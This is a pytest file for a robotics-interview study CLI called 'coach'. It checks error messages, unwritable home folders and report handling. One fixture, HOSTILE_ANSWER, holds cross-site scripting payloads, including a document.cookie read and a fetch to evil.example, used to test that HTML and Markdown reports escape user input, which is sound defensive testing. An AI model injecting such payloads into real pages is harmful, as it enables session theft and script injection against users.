"""Bad arguments, an unwritable COACH_HOME and design reports: a clear `coach: error:` line listing what is valid,
never a traceback (checked through the real entry point too)."""

from __future__ import annotations

import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from coach.cli import app
from coach.commands.focus import ROBOT_NAMES
from coach.model import Budget, Topic

from conftest import DATA, NOW, child_env

TOPICS = [t.value for t in Topic]
BUDGETS = [b.value for b in Budget]
PROMPTS = sorted(p.stem for p in (Path(__file__).resolve().parents[1] / "rubrics").glob("*.yaml"))


def no_crash(result) -> None:  # noqa: ANN001 - click Result
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)


# bad arguments ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("args", "code", "valid"),
    [
        (["quiz", "--robot", "robodog"], 1, ROBOT_NAMES),
        (["focus", "robodog"], 1, ROBOT_NAMES),
        (["quiz", "--topic", "cooking"], 2, TOPICS),
        (["quiz", "--budget", "2h"], 2, BUDGETS),
        (["plan", "--time", "forever"], 2, BUDGETS),
        (["config", "colour", "blue"], 1, ["new-per-day", "retention"]),
        (["design", "show", "warehouse-drones"], 1, PROMPTS),
        (["design", "run", "warehouse-drones"], 1, PROMPTS),
        (["design", "score", "warehouse-drones", "--answer-file", str(DATA / "bank.yaml")], 1, PROMPTS),
        (["design", "show", "teleop-flywheel", "--robot", "robodog"], 1, ROBOT_NAMES),
    ],
)
def test_unknown_names_list_the_valid_ones(test_bank: Path, args: list[str], code: int, valid: list[str]) -> None:
    result = CliRunner().invoke(app, args, input="")
    no_crash(result)
    assert result.exit_code == code, result.output
    assert result.stdout == ""
    text = " ".join(result.stderr.replace("│", " ").split())  # Typer boxes usage errors and may wrap them
    missing = [name for name in valid if name not in text]
    assert not missing, (missing, result.stderr)
    if code == 1:
        assert len(result.stderr.splitlines()) == 1 and result.stderr.startswith("coach: error: unknown ")


def test_bad_values_say_what_to_write(test_bank: Path) -> None:
    for args, expected in ((["plan", "--interview", "next tuesday"], "use YYYY-MM-DD"),
                           (["config", "retention", "lots"], "e.g. coach config retention 0.9"),
                           (["config", "new-per-day", "900"], "must be between 0 and 500")):
        result = CliRunner().invoke(app, args)
        no_crash(result)
        assert result.exit_code == 1 and expected in result.stderr and len(result.stderr.splitlines()) == 1, args


# unwritable COACH_HOME -------------------------------------------------------------------------------------------

HOME_COMMANDS = [["quiz", "--plain"], ["stats"], ["focus", "arm"], [], ["plan"], ["weak"], ["config"],
                 ["design", "list"]]


def unwritable_homes(tmp_path: Path) -> list[Path]:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    homes = [blocker, blocker / "coach"]
    if hasattr(sys, "getuid") and sys.platform != "win32":
        import os

        if os.geteuid() != 0:  # root writes anywhere: only a file in the way stops it
            locked = tmp_path / "locked"
            locked.mkdir(mode=0o500)
            homes.append(locked / "coach")
    return homes


def test_unwritable_coach_home_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, test_bank: Path) -> None:
    for home in unwritable_homes(tmp_path):
        monkeypatch.setenv("COACH_HOME", str(home))
        for args in HOME_COMMANDS:
            result = CliRunner().invoke(app, args, input="1\n")
            no_crash(result)
            assert result.exit_code == 1, (home, args, result.output)
            (line,) = result.stderr.splitlines()
            assert line.startswith(f"coach: error: cannot write to COACH_HOME {home}: "), (args, line)
            assert line.endswith("(set COACH_HOME to a writable folder)")
        # reading the bank needs no home: its parse cache is optional
        assert CliRunner().invoke(app, ["bank", "stats", "--json"]).exit_code == 0
    assert (tmp_path / "a-file").read_text() == "not a folder"


def _check_home(home: str, barrier: object, results: object) -> None:
    from coach.config import Settings
    from coach.errors import HomeError

    barrier.wait()  # type: ignore[attr-defined]
    try:
        Settings(home=Path(home), bank_paths=(), rubric_dir=Path(home)).ensure_home()
        results.put("ok")  # type: ignore[attr-defined]
    except HomeError as exc:
        results.put(str(exc))  # type: ignore[attr-defined]


def test_sessions_starting_together_all_pass_the_home_check(tmp_path: Path) -> None:
    # they used to share one probe file: one deleted it under another, which then said COACH_HOME was unwritable
    import multiprocessing

    ctx = multiprocessing.get_context("fork")
    for round_ in range(10):
        barrier, results = ctx.Barrier(6), ctx.Queue()
        procs = [ctx.Process(target=_check_home, args=(str(tmp_path / f"home{round_}"), barrier, results))
                 for _ in range(6)]
        for p in procs:
            p.start()
        for p in procs:
            p.join(timeout=30)
        assert [results.get(timeout=5) for _ in procs] == ["ok"] * 6


# reports -----------------------------------------------------------------------------------------------------------

HOSTILE_ANSWER = """\
# My design
Record with rosbag2 to MCAP split every few minutes, upload resumable multipart with checksums when docked.
<script>alert('pwned')</script> and <img src=x onerror="alert(2)"> and </blockquote></pre><b>bold</b>
    <script>document.cookie</script>
| a | table | break |
```
<script>fetch('https://evil.example')</script>
```
"""


def score_with_report(tmp_path: Path, report: Path, *extra: str):  # noqa: ANN201 - click Result
    answer = tmp_path / "answer.md"
    answer.write_text(HOSTILE_ANSWER)
    return CliRunner().invoke(app, ["design", "score", "teleop-flywheel", "--answer-file", str(answer),
                                    "--report", str(report), *extra])


@pytest.mark.parametrize("suffix", [".html", ".md"])
def test_script_in_an_answer_stays_text_in_reports(tmp_path: Path, suffix: str) -> None:
    report = tmp_path / f"round{suffix}"
    result = score_with_report(tmp_path, report)
    no_crash(result)
    assert result.exit_code == 0, result.output
    text = report.read_text()
    if suffix == ".md":  # what a Markdown viewer would show: render it, raw HTML allowed
        from markdown_it import MarkdownIt

        text = MarkdownIt("commonmark").render(text)
    lowered = text.lower()
    assert "<script" not in lowered and "<img" not in lowered and "<b>bold</b>" not in lowered
    assert "&lt;script&gt;alert(" in text, "the user's text should still be shown, escaped"


def test_existing_report_is_not_overwritten_without_force(tmp_path: Path, coach_env: Path) -> None:
    report = tmp_path / "round.html"
    report.write_text("<p>my notes from last week</p>")
    result = score_with_report(tmp_path, report)
    no_crash(result)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [f"coach: error: {report}: report already exists (pass --force to "
                                          "overwrite it, or choose another path)"]
    assert report.read_text() == "<p>my notes from last week</p>"
    db = coach_env / "coach.db"
    assert not db.exists() or not sqlite3.connect(db).execute("SELECT count(*) FROM design_attempts").fetchone()[0], \
        "a refused report still stored the attempt"
    forced = score_with_report(tmp_path, report, "--force")
    assert forced.exit_code == 0, forced.output
    assert "my notes from last week" not in report.read_text() and "&lt;script&gt;" in report.read_text()
    folder = tmp_path / "a-folder.html"
    folder.mkdir()
    for extra in ((), ("--force",)):
        result = score_with_report(tmp_path, folder, *extra)
        no_crash(result)
        assert result.exit_code == 1 and len(result.stderr.splitlines()) == 1, result.output
        assert result.stderr.startswith(f"coach: error: {folder}")
    assert folder.is_dir() and not list(folder.iterdir())


# the real entry point: no traceback for any of these ---------------------------------------------------------------

def test_no_traceback_through_the_entry_point(tmp_path: Path) -> None:
    broken_bank = tmp_path / "broken.yaml"
    broken_bank.write_bytes(b"questions:\n  - id: x\n    prompt: [unclosed\n")
    garbage_home = tmp_path / "garbage-home"
    garbage_home.mkdir()
    (garbage_home / "coach.db").write_bytes(b"not sqlite at all\n" * 100)
    blocker = tmp_path / "blocker"
    blocker.write_text("x")
    base = dict(COACH_SHIPPED_BANK="0", COACH_BANK_PATH=str(DATA / "bank.yaml"), COACH_NOW=NOW.isoformat())
    cases = [
        (["quiz", "--robot", "robodog"], {}, 1),
        (["quiz", "--topic", "cooking"], {}, 2),
        (["quiz"], {"COACH_BANK_PATH": str(broken_bank)}, 1),
        (["bank", "check", str(broken_bank)], {}, 1),
        (["stats"], {"COACH_HOME": str(garbage_home)}, 1),
        (["stats"], {"COACH_HOME": str(blocker / "home")}, 1),
        (["stats"], {"COACH_NOW": "yesterday-ish"}, 1),
        (["design", "run", "warehouse-drones"], {}, 1),
        (["quiz", "--plain", "--robot", "any"], {"COACH_BANK_PATH": str(tmp_path / "missing.yaml")}, 1),
    ]
    for args, env, code in cases:
        full = child_env(**{"COACH_HOME": str(tmp_path / "home"), **base, **env})
        out = subprocess.run([sys.executable, "-m", "coach", *args], capture_output=True, text=True, env=full,
                             input="1\n", timeout=30)
        assert "Traceback" not in out.stderr and "internal error" not in out.stderr, (args, out.stderr)
        assert out.returncode == code, (args, out.returncode, out.stderr)
        if code == 1:
            assert out.stderr.startswith("coach: error: ") and out.stderr.count("\n") == 1, (args, out.stderr)
